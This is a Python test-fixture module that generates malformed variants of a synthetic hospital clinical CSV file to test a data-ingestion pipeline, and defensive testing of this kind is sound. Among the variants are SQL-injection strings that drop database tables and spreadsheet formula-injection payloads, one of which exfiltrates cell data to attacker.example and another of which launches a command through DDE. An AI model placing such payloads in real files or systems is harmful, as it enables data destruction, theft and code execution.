"""The bad-CSV corpus: a site's ``clinical.csv`` as hospitals really export it, broken in one way each.

Provenance: built from the synthetic consortium's own clean ``clinical.csv`` (``cohortpool synth``),
rewritten here; nothing real. :data:`VARIANTS` maps a name to a function turning the clean table's
text into the broken file's bytes.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

#: a token in a column the site must never send on (grepped for in the submission)
EXTRA_TOKEN = "HZEXTRA01X"
#: the injection-looking column name and site id of the tests
SQL_COLUMN = 'x"; DROP TABLE raw.clinical; --'
SQL_SITE = "site01'; DROP TABLE raw.batches; --"
#: spreadsheet formulas planted in cells that are passed through to the submission
FORMULAS = {
    "primary_tumour": '=HYPERLINK("http://attacker.example/?"&A1,"lung")',
    "sex": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pathology_confirmed": "+1+1",
    "diagnosis": "-2+3",
}


def rows(text: str) -> tuple[list[str], list[list[str]]]:
    table = list(csv.reader(io.StringIO(text)))
    return table[0], table[1:]


def render(header: list[str], body: list[list[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(body)
    return buffer.getvalue()


def gbk(text: str) -> bytes:
    """Chinese names in GBK (what a Windows export in a Chinese locale writes)."""
    header, body = rows(text)
    body[0][header.index("patient_name")] = "王秀英"
    return render(header, body).encode("gbk")


def utf8_bom(text: str) -> bytes:
    return b"\xef\xbb\xbf" + text.encode("utf-8")


def semicolons(text: str) -> bytes:
    header, body = rows(text)
    return render(header, body, delimiter=";").encode("utf-8")


def renamed(text: str) -> bytes:
    header, body = rows(text)
    header[header.index("sex")] = "gender"
    return render(header, body).encode("utf-8")


def extra_column(text: str) -> bytes:
    header, body = rows(text)
    return render([*header, "email"], [[*r, f"{EXTRA_TOKEN}@hospital.example"] for r in body]).encode()


def excel_dates(text: str) -> bytes:
    """Dates as Excel shows or stores them: day/month/year text and a serial day number."""
    header, body = rows(text)
    body[0][header.index("birth_date")] = "05/04/1931"
    body[0][header.index("first_exam_date")] = "45000"
    return render(header, body).encode("utf-8")


def long_line(text: str) -> bytes:
    """A cell past the reader's limit (1 MiB)."""
    header, body = rows(text)
    body[1][header.index("primary_tumour")] = "x" * 1_100_000
    return render(header, body).encode("utf-8")


def long_address(text: str) -> bytes:
    """A free-text address of 200 KB (past the csv module's default limit of 128 KiB), dropped anyway."""
    header, body = rows(text)
    body[1][header.index("address")] = "Flat 1, Long Road, " * 10_600
    return render(header, body).encode("utf-8")


def formulas(text: str) -> bytes:
    header, body = rows(text)
    for column, value in FORMULAS.items():
        body[0][header.index(column)] = value
    return render(header, body).encode("utf-8")


VARIANTS: dict[str, Callable[[str], bytes]] = {
    "gbk": gbk,
    "utf8_bom": utf8_bom,
    "semicolons": semicolons,
    "renamed": renamed,
    "extra_column": extra_column,
    "excel_dates": excel_dates,
    "long_line": long_line,
    "long_address": long_address,
    "formulas": formulas,
}
